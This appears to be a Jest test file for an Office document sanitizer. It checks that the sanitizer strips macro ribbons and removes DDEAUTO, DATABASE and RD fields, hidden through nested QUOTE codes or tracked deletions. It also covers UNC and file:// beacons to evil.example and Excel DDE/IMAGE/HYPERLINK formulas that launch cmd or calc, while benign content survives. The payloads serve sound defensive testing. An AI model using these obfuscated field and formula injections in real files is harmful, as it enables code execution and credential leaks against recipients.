/**
 * Office attacks that reached the recipient in the third round of trials (issue: ribbons outside
 * customUI/, fields Word evaluates from nested fields or tracked deletions, Excel IMAGE/HYPERLINK/DDE
 * formulas) and an ordinary document that was lost (an altChunk HTML part with a DOCTYPE). Every
 * delivered file is read again by Python's zipfile and xml.etree.
 */
import { BuiltinSanitizerEngine } from '../../lib/sanitization/engine';
import { SanitizeResult } from '../../lib/sanitization/types';
import { DOCUMENT_TEXT, R, REL, wordPackage, zip } from './fixtures';
import { pythonReadsZip } from './zip-tools';

const engine = new BuiltinSanitizerEngine();
const UI_2007 = 'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility';
const UI_2006 = 'http://schemas.microsoft.com/office/2006/relationships/ui/extensibility';
const RIBBON =
  '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Ribbon_Load"><ribbon><tabs><tab id="t" label="x">' +
  '<group id="g" label="g"><button id="b" label="b" onAction="Evil_Click"/></group></tab></tabs></ribbon></customUI>';

/** The delivered parts as Python reads them (the file must be a valid ZIP of well-formed XML). */
function delivered(result: SanitizeResult): Record<string, string> {
  expect(result.output).toBeDefined();
  const read = pythonReadsZip(result.output!.bytes);
  if (!read.ok) throw new Error(`Python cannot read the delivered file: ${read.error}`);
  return read.parts;
}

const run = (name: string, bytes: Uint8Array) => engine.sanitize({ name, bytes });

/** A Word document whose package relationship adds a ribbon part at `ribbonPath` with relationship `type`. */
function docxWithRibbon(ribbonPath: string, type: string): Uint8Array {
  return zip({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
<Override PartName="/${ribbonPath}" ContentType="application/xml"/>
</Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/>
<Relationship Id="rId2" Type="${type}" Target="${ribbonPath}"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>${DOCUMENT_TEXT}</w:t></w:r></w:p></w:body></w:document>`,
    [ribbonPath]: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n${RIBBON}`,
  });
}

describe('ribbon customizations found by their relationship type, wherever the part lives', () => {
  test.each([
    ['word/ribbon/ui.xml', UI_2007],
    ['xl/ribbon.xml', UI_2006],
    ['ppt/ui/custom.xml', UI_2007],
  ])('%s is removed with its relationship and content type override', async (path, type) => {
    const result = await run('plan.docx', docxWithRibbon(path, type));
    expect(result.verdict).toBe('sanitized');
    const parts = delivered(result);
    expect(Object.keys(parts)).not.toContain(path);
    expect(Object.values(parts).join('')).not.toMatch(/onAction|onLoad|Evil_Click|extensibility/);
    expect(parts['[Content_Types].xml']).not.toContain(path);
    expect(parts['word/document.xml']).toContain(DOCUMENT_TEXT);
    expect(result.actions).toContain(`removed ribbon customization (macro callbacks) part '${path}'`);
  });
});

const field = (instruction: string, result: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${instruction}</w:instrText></w:r>` +
  `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>';
const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const instr = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const resultText = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
/** A complex field around instruction runs (nested fields included) with one result run. */
const complex = (instruction: string, result: string) => `${begin}${instruction}${separate}${resultText(result)}${end}`;
const CALC = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';

async function docxWithBody(body: string): Promise<{ result: SanitizeResult; xml: string }> {
  const result = await run('fields.docx', wordPackage({ body }));
  return { result, xml: delivered(result)['word/document.xml'] };
}

describe('Word fields are judged by what Word would evaluate', () => {
  test.each([
    [
      'DATABASE to an SMB share',
      `<w:p>${field(' DATABASE \\d "\\\\\\\\evil.example\\\\share\\\\db.mdb" \\s "SELECT * FROM t" ', '表の結果')}</w:p>`,
    ],
    ['RD to an SMB share', `<w:p>${field(' RD "\\\\\\\\evil.example\\\\share\\\\index.docx" ', '表の結果')}</w:p>`],
    [
      'DDEAUTO built from nested QUOTE character codes',
      `<w:p>${complex(`${complex(instr(' QUOTE 68 68 69 65 85 84 79 '), 'DDEAUTO')}${instr(` ${CALC} `)}`, '表の結果')}</w:p>`,
    ],
    [
      'a SET/REF pair whose REF is the keyword',
      `<w:p>${field(` SET cmd "DDEAUTO ${CALC}" `, '')}${complex(complex(instr(' REF cmd '), 'x'), '表の結果')}</w:p>`,
    ],
    [
      'DDEAUTO inside a tracked deletion',
      `<w:p>${complex(
        `<w:del w:id="1" w:author="a"><w:r><w:delInstrText xml:space="preserve"> DDEAUTO ${CALC} </w:delInstrText></w:r></w:del>`,
        '表の結果',
      )}</w:p>`,
    ],
    [
      'HYPERLINK whose file: target is built by QUOTE',
      `<w:p>${complex(instr(' HYPERLINK ') + complex(instr(' QUOTE "file://evil.example/share/leak" '), 'x'), '表の結果')}</w:p>`,
    ],
  ])('%s: the field goes, its last result stays as text', async (_name, body) => {
    const { result, xml } = await docxWithBody(body);
    expect(result.verdict).toBe('sanitized');
    expect(xml).not.toMatch(/DDEAUTO|DATABASE|\bRD\b|QUOTE|REF cmd|fldChar|instrText|file:/i);
    expect(xml).toContain('表の結果');
    expect(result.actions.some((a) => /neutralized [1-9]\d* DDE\/remote\/macro field\(s\)/.test(a))).toBe(true);
  });

  test('ordinary nested fields (a page formula, a conditional text) are kept as fields', async () => {
    const body =
      `<w:p>${complex(instr(' = ') + field(' PAGE ', '3') + instr(' + 1 '), '4')}</w:p>` +
      `<w:p>${complex(instr(' IF ') + field(' NUMPAGES ', '5') + instr(' &gt; 1 "複数ページ" "1ページ" '), '複数ページ')}</w:p>`;
    const { result, xml } = await docxWithBody(body);
    expect(result.verdict).toBe('clean');
    expect(xml.match(/fldCharType="begin"/g)).toHaveLength(4);
    expect(xml).toContain(' PAGE ');
    expect(xml).toContain(' IF ');
  });

  test('a VML picture whose source is a file:// or UNC path loses the source, the shape stays', async () => {
    const body =
      `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1" style="width:10pt;height:10pt">` +
      `<v:imagedata src="file://\\\\evil.example\\share\\beacon.png"/></v:shape></w:pict></w:r>` +
      `<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="\\\\evil.example\\share\\fill.png" type="frame"/>` +
      `</v:rect></w:pict></w:r>${resultText('図の後')}</w:p>`;
    const { result, xml } = await docxWithBody(body);
    expect(result.verdict).toBe('sanitized');
    expect(xml).not.toContain('evil.example');
    expect(xml).toContain('<v:imagedata/>');
    expect(xml).toContain('図の後');
    expect(result.actions).toContain("removed 2 remote VML picture/link source(s) in 'word/document.xml'");
  });
});

describe('Excel formulas that fetch, link or run', () => {
  function workbook(cells: string): Uint8Array {
    return zip({
      '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
</Types>`,
      '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      'xl/workbook.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${R}">
<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      'xl/_rels/workbook.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
      'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
    });
  }

  test.each([
    ['IMAGE() fetching a URL', '_xlfn.IMAGE("https://evil.example/beacon.png")'],
    ['HYPERLINK() to a UNC path', 'HYPERLINK("\\\\evil.example\\share\\leak.xlsx","資料")'],
    ['HYPERLINK() to a file: URL', 'HYPERLINK("file:///C:/Windows/System32/calc.exe","資料")'],
    ['HYPERLINK() to a computed target', 'HYPERLINK(B1&amp;"x","資料")'],
    ['DDE with a blank before the pipe', "cmd |' /c calc'!A0"],
    ['DDE with blanks around the pipe', "msexcel | '\\..\\..\\..\\windows\\system32\\cmd /c calc'!_xlbgnm.A1"],
  ])('%s: the formula goes, the cached value stays', async (_name, formula) => {
    const result = await run(
      'kei.xlsx',
      workbook(`<c r="A1" t="str"><f>${formula}</f><v>資料</v></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c>`),
    );
    expect(result.verdict).toBe('sanitized');
    const sheet = delivered(result)['xl/worksheets/sheet1.xml'];
    expect(sheet).toContain('<c r="A1" t="str"><v>資料</v></c>');
    expect(sheet).toContain('<f>SUM(1,2)</f>');
    expect(result.actions).toContain("removed 1 DDE/web formula(s) (cached values kept) in 'xl/worksheets/sheet1.xml'");
  });

  test('HYPERLINK() to a web page or a place in the workbook stays', async () => {
    const result = await run(
      'kei.xlsx',
      workbook(
        '<c r="A1" t="str"><f>HYPERLINK("https://www.city.shiojiri.lg.jp/","市")</f><v>市</v></c>' +
          '<c r="B1" t="str"><f>HYPERLINK("#Sheet2!A1","表")</f><v>表</v></c>',
      ),
    );
    expect(result.verdict).toBe('clean');
    expect(delivered(result)['xl/worksheets/sheet1.xml']).toContain('HYPERLINK("https://www.city.shiojiri.lg.jp/","市")');
  });
});

describe('an altChunk HTML part with a DOCTYPE', () => {
  test('is removed with its reference; the document is delivered', async () => {
    const bytes = wordPackage({
      defaults: '\n<Default Extension="htm" ContentType="application/xhtml+xml"/>',
      body: `<w:p><w:r><w:t>${DOCUMENT_TEXT}</w:t></w:r></w:p><w:altChunk r:id="rId3"/>`,
      parts: {
        'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId3" Type="${R}/aFChunk" Target="chunk.htm"/></Relationships>`,
        'word/chunk.htm': '<!DOCTYPE html>\n<html><body><p>取り込まれた表</p><script>alert(1)</script></body></html>',
      },
    });
    const result = await run('kaigi.docx', bytes);
    expect(result.verdict).toBe('sanitized');
    const parts = delivered(result);
    expect(Object.keys(parts)).not.toContain('word/chunk.htm');
    expect(parts['word/document.xml']).not.toContain('altChunk');
    expect(parts['word/document.xml']).toContain(DOCUMENT_TEXT);
    expect(result.actions).toContain("removed aFChunk part 'word/chunk.htm'");
  });
});

describe('XML only a lenient parser accepts', () => {
  test.each([
    ['an unquoted attribute', '<w:p><w:r><w:t xml:space=preserve>本文</w:t></w:r></w:p>'],
    ['a bare ampersand', '<w:p><w:r><w:t>塩尻 & 松本</w:t></w:r></w:p>'],
    ['an undefined entity', '<w:p><w:r><w:t>&nbsp;本文</w:t></w:r></w:p>'],
    ['attributes run together', '<w:p><w:r><w:t xml:space="preserve"w:x="1">本文</w:t></w:r></w:p>'],
    ["']]>' in text", '<w:p><w:r><w:t>a]]>b</w:t></w:r></w:p>'],
  ])('%s in a part delivered unedited quarantines the document', async (_name, body) => {
    const bytes = wordPackage({ body });
    // The probe is real: a strict parser refuses the input's part.
    expect(pythonReadsZip(bytes)).toMatchObject({ ok: false });
    const result = await run('bunsho.docx', bytes);
    expect(result).toMatchObject({ verdict: 'quarantined', reasonCode: 'malformed' });
    expect(result.reason).toMatch(/^Office part 'word\/document\.xml' is not well-formed XML for strict readers/);
  });
});
